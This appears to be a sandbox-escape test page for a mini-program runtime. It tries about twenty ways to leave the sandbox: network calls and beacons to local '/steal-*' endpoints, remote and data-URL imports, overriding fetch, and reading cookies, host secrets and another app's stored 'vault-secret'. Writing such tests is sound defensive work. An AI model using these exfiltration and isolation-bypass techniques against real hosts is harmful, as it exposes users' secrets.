// Each attempt tries to leave the sandbox from the logic layer. An attempt "escaped"
// when it returns something usable; "blocked" when it throws, is missing or fails.
const base = 'http://127.0.0.1:' + (wx.getLaunchOptionsSync().query.port || '1');

async function attempt(name, fn) {
  try {
    const value = await fn();
    if (value === undefined || value === null || value === '' || value === false) return { name, outcome: 'blocked' };
    return { name, outcome: 'ESCAPED ' + String(value).slice(0, 40) };
  } catch (e) {
    return { name, outcome: 'blocked' };
  }
}

const attempts = {
  fetch: () => fetch(base + '/steal-fetch').then((r) => r.status),
  xhr: () => {
    const x = new XMLHttpRequest();
    x.open('GET', base + '/steal-xhr', false);
    x.send();
    return x.status;
  },
  websocket: () => new WebSocket('ws://127.0.0.1:1/steal-ws'),
  eventsource: () => new EventSource(base + '/steal-sse'),
  importScripts: () => { importScripts(base + '/steal-import.js'); return 'loaded'; },
  dynamicImport: () => import(base + '/steal-module.js').then(() => 'loaded'),
  dataImport: () => import('data:text/javascript,export default 42').then((m) => m.default),
  indexedDB: () => indexedDB.open('spy'),
  caches: () => caches.open('spy'),
  navigatorStorage: () => navigator.storage.getDirectory(),
  restoreFetch: () => {
    Object.defineProperty(globalThis, 'fetch', { value: () => 'mine' });
    return fetch(base + '/steal-restored');
  },
  protoFetch: () => Object.getPrototypeOf(globalThis).fetch || WorkerGlobalScope.prototype.fetch,
  nestedWorker: () => new Worker('data:text/javascript,postMessage(1)'),
  broadcast: () => new BroadcastChannel('miniport'),
  hostDom: () => document.title,
  cookies: () => document.cookie,
  localStorage: () => localStorage.getItem('host-secret'),
  rawPostMessage: () => { postMessage({ t: 'api', cb: 1, name: 'request', args: { url: base + '/steal-raw' } }); return 'sent'; },
  otherAppStorage: () => wx.getStorageSync('vault-secret'),
  requestOutsideAllowList: () => wx.request({ url: base + '/steal-request' }).then((r) => r.statusCode),
};

Page({
  data: { results: [], done: false, lastError: '', beacon: '' },

  onLoad() {
    // An image beacon carrying data out: the host's mediaDomains policy refuses it.
    this.setData({ beacon: base + '/steal-image.png?data=secret' });
  },

  async run() {
    const results = [];
    for (const [name, fn] of Object.entries(attempts)) results.push(await attempt(name, fn));
    this.setData({ results, done: true });
  },

  crash() {
    undefined.boom();
  },
});
